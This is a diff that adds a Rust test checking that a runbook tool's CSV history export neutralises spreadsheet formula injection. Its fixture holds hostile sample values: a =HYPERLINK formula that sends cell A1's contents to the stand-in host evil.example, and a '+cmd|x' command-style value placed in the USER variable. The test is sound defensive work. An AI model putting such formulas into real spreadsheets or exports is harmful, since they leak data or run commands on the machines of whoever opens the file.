@@ -364,3 +364,48 @@ fn the_example_transcripts_are_real_runs_and_the_book_shows_their_history() {
         "the book's history table is not what runsheet prints"
     );
 }
+
+/// A runbook whose heading, task and the operator's name are spreadsheet
+/// formulas, run once.
+fn formula_run() -> Sandbox {
+    Test::new()
+        .runbook(
+            "- [ ] @SUM(1+1) check\n\n\
+             # =HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")\n\n\
+             - [ ] -2+3 then\n\n\
+             ```bash\necho hi\n```\n",
+        )
+        .env("USER", "+cmd|x")
+        .run_yes()
+        .status(3)
+        .run()
+        .sandbox
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_as_formulas_are_text() {
+    let out = formula_run()
+        .test()
+        .args(["history", "--format", "csv", crate::common::OUT])
+        .run();
+    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV")).collect();
+    assert_eq!(rows.len(), 3, "{}", out.stdout);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in\n{}",
+                out.stdout
+            );
+        }
+        assert!(row[3].starts_with("'+cmd|x@"), "{}", out.stdout);
+    }
+    let steps: Vec<&str> = rows.iter().map(|r| &r[6]).collect();
+    assert_eq!(steps[0], "'@SUM(1+1) check", "{}", out.stdout);
+    assert_eq!(
+        steps[1], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") › -2+3 then",
+        "{}",
+        out.stdout
+    );
+}
